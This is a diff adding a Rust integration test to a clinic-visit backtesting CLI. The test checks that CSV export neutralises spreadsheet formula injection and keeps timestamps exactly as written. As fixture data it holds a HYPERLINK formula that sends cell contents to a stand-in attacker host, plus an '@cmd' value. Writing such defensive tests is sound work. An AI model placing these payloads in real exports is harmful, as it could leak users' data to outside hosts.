@@ -439,6 +439,63 @@ fn simulate_then_backtest_reports_kept_rate_and_baselines() {
 }
 
 #[test]
+fn backtest_quotes_neutralise_formulas_and_keep_times() {
+    let dir = tempfile::tempdir().unwrap();
+    let history = dir.path().join("h.csv");
+    let quotes = dir.path().join("q.csv");
+    std::fs::write(
+        &history,
+        "visit_id,location,provider,visit_type,priority,scheduled_at,arrived_at,seen_at,done_at,outcome\n\
+         \"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\",main,,,,,2024-03-05T09:00:00,2024-03-05T09:20:00,,seen\n\
+         -12,main,,,,,2024-03-05T09:05:00,2024-03-05T09:30:00,,seen\n\
+         @cmd,main,,,,,2024-03-05T09:10:00+01:00,2024-03-05T09:40:00+01:00,,seen\n\
+         a-1,main,,,,,2024-03-05T09:15:00,2024-03-05T09:45:00,,seen\n",
+    )
+    .unwrap();
+    let out = run(&[
+        "backtest",
+        "--visits",
+        history.to_str().unwrap(),
+        "--quotes-out",
+        quotes.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", text(&out));
+    let mut reader = csv::Reader::from_path(&quotes).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
+    assert_eq!(
+        ids,
+        [
+            "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")",
+            "-12",
+            "'@cmd",
+            "a-1"
+        ],
+        "formulas neutralised, a plain number and plain text left alone"
+    );
+    let quoted: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
+    assert_eq!(
+        quoted,
+        [
+            "2024-03-05T09:00:00",
+            "2024-03-05T09:05:00",
+            "2024-03-05T09:10:00+01:00",
+            "2024-03-05T09:15:00"
+        ],
+        "times as written"
+    );
+    for r in &rows {
+        let promised = &r[2];
+        let time = promised.get(..19).unwrap_or_default();
+        assert!(
+            chrono::NaiveDateTime::parse_from_str(time, "%Y-%m-%dT%H:%M:%S").is_ok(),
+            "a time: {promised:?}"
+        );
+        assert!(!promised.starts_with('\''), "{promised:?}");
+    }
+}
+
+#[test]
 fn backtest_refuses_bad_rows_unless_told_to_skip_them() {
     let dir = tempfile::tempdir().unwrap();
     let history = dir.path().join("h.csv");
